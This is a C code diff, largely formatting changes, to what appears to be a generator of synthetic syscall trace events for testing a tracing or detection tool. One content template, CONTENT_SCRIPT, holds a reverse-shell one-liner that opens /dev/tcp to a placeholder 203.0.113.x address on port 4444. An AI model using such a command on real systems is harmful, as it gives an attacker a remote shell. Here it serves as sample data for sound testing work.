@@ -56,8 +56,12 @@ static void note_step(struct machine *m, const struct task *t, const struct ev_h
 		m->max_steps = max;
 	}
 	m->steps[m->n_steps++] = (struct truth_step){
-		.plant = t->proc->plant, .cpu = h->cpu, .type = h->type, .seq = h->seq,
-		.ts = h->ts, .pid = h->pid,
+		.plant = t->proc->plant,
+		.cpu = h->cpu,
+		.type = h->type,
+		.seq = h->seq,
+		.ts = h->ts,
+		.pid = h->pid,
 	};
 }
 
@@ -75,7 +79,9 @@ static void add_state(struct machine *m, size_t length)
 		m->max_state = max;
 	}
 	m->state_order[m->n_state++] = (struct state_entry){
-		m->record.header.ts, (uint32_t)m->state.used, (uint32_t)length,
+		m->record.header.ts,
+		(uint32_t)m->state.used,
+		(uint32_t)length,
 	};
 	if (ring_add(&m->state, &m->record.header, length))
 		m->err = -ENOMEM;
@@ -89,19 +95,22 @@ static void add_lost(struct machine *m, struct cpu *c)
 		struct ev_lost lost;
 	} record;
 
-	for (unsigned class = 1; class < 16; class++) {
+	for (unsigned class = 1; class < 16; class ++) {
 		if (!c->dropped[class])
 			continue;
 		memset(&record, 0, sizeof(record));
 		record.header = (struct ev_header){
-			.ts = c->now, .seq = c->seq++, .cpu = (uint16_t)(c - m->cpus),
-			.length = sizeof(record.lost), .type = EV_lost,
+			.ts = c->now,
+			.seq = c->seq++,
+			.cpu = (uint16_t)(c - m->cpus),
+			.length = sizeof(record.lost),
+			.type = EV_lost,
 		};
 		record.lost.first = c->dropped_first;
 		record.lost.last = c->dropped_last;
 		record.lost.count = c->dropped[class];
 		record.lost.lost_cpu = record.header.cpu;
-		record.lost.lost_class = (uint8_t)class;
+		record.lost.lost_class = (uint8_t) class;
 		if (ring_add(&c->ring, &record, sizeof(record)))
 			m->err = -ENOMEM;
 		c->lost[class] += c->dropped[class];
@@ -160,14 +169,17 @@ void emit_path_and_arg(struct machine *m, uint32_t file)
 
 void content_make(struct machine *m, enum content kind, char bytes[64])
 {
-	static const char *const forms[] = {
+	static const char forms[][65] = {
 		[CONTENT_LOG] = "Nov 21 09:11:##.###### host daemon[#####]: status ##### job ####",
-		[CONTENT_ELF] = "\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\1\0>\0\1\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
-				"\0\0\0\0##\0\0\0\0\0\0\0\0\0\0@\0\0\0\0\0@\0#\0#",
-		[CONTENT_ASM] = "\t.file\t\"value_##.c\"\n\t.text\n.Ltext0:\n\t.file 0 \"/home/dev/src/s",
-		[CONTENT_PACKED] = NULL,
-		[CONTENT_HTTP] = "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Length: #####\r\nDate: Thu",
-		[CONTENT_SCRIPT] = "#!/bin/sh\nexec 3<>/dev/tcp/203.0.113.#/4444; sh <&3 >&3 2>&3 ###\n",
+		[CONTENT_ELF] =
+			"\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\1\0>\0\1\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
+			"\0\0\0\0##\0\0\0\0\0\0\0\0\0\0@\0\0\0\0\0@\0#\0#",
+		[CONTENT_ASM] =
+			"\t.file\t\"value_##.c\"\n\t.text\n.Ltext0:\n\t.file 0 \"/home/dev/src/s",
+		[CONTENT_HTTP] =
+			"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Length: #####\r\nDate: Thu",
+		[CONTENT_SCRIPT] =
+			"#!/bin/sh\nexec 3<>/dev/tcp/203.0.113.#/4444; sh <&3 >&3 2>&3 ###\n",
 	};
 
 	if (kind == CONTENT_PACKED) {
@@ -224,7 +236,8 @@ static void emit_fd_op(struct machine *m, struct task *t, const struct op *op, s
 	emit_end(m, t, c, op->flags);
 }
 
-static void emit_other_process(struct machine *m, struct task *t, const struct op *op, struct cpu *c)
+static void emit_other_process(struct machine *m, struct task *t, const struct op *op,
+			       struct cpu *c)
 {
 	switch (op->code) {
 	case OP_KILL: {
@@ -251,8 +264,8 @@ static void emit_other_process(struct machine *m, struct task *t, const struct o
 		break;
 	}
 	default: {
-		struct ev_process_vm_writev *e = emit_begin(m, t, c, EV_process_vm_writev,
-							    NR_process_vm_writev, op->ret);
+		struct ev_process_vm_writev *e =
+			emit_begin(m, t, c, EV_process_vm_writev, NR_process_vm_writev, op->ret);
 
 		e->addr = 0x7ffc00000000 | (rng_next(&m->rng) & 0xffffff8);
 		e->count = (uint64_t)op->ret;
@@ -268,7 +281,8 @@ static void emit_kernel(struct machine *m, struct task *t, const struct op *op, 
 
 	switch (op->code) {
 	case OP_FINIT_MODULE: {
-		struct ev_finit_module *e = emit_begin(m, t, c, EV_finit_module, NR_finit_module, 0);
+		struct ev_finit_module *e =
+			emit_begin(m, t, c, EV_finit_module, NR_finit_module, 0);
 		const char *path = m->tree.text + f->path;
 		unsigned begin = f->path_len;
 
@@ -292,15 +306,15 @@ static void emit_kernel(struct machine *m, struct task *t, const struct op *op, 
 		break;
 	}
 	case OP_CLOCK_SETTIME: {
-		struct ev_clock_settime *e = emit_begin(m, t, c, EV_clock_settime,
-							NR_clock_settime, 0);
+		struct ev_clock_settime *e =
+			emit_begin(m, t, c, EV_clock_settime, NR_clock_settime, 0);
 
 		e->time = (int64_t)op->b;
 		break;
 	}
 	case OP_MEMFD: {
-		struct ev_memfd_create *e = emit_begin(m, t, c, EV_memfd_create, NR_memfd_create,
-						       op->fd);
+		struct ev_memfd_create *e =
+			emit_begin(m, t, c, EV_memfd_create, NR_memfd_create, op->fd);
 
 		e->inode = f->inode;
 		e->dev = f->dev;
